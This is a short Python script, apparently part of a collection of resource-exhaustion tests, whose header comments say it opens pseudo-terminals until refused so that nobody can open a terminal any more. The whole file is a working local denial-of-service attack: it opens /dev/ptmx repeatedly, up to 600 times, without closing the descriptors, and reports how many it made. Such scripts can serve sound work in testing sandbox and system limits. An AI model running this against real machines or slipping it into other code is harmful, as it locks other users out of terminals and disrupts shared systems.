# attack: Opens pseudo-terminals until it is refused; the machine has a fixed number of them.
# hurts: Nobody can open a terminal any more.
# at most: 256 descriptors
# ends: returns or error
import os

from _raw import took

MOST = 600


def attack(target):
    made, why = 0, ""
    while made < MOST:
        try:
            os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        except OSError as error:
            why = str(error)
            break
        made += 1
    return [took(made), why]
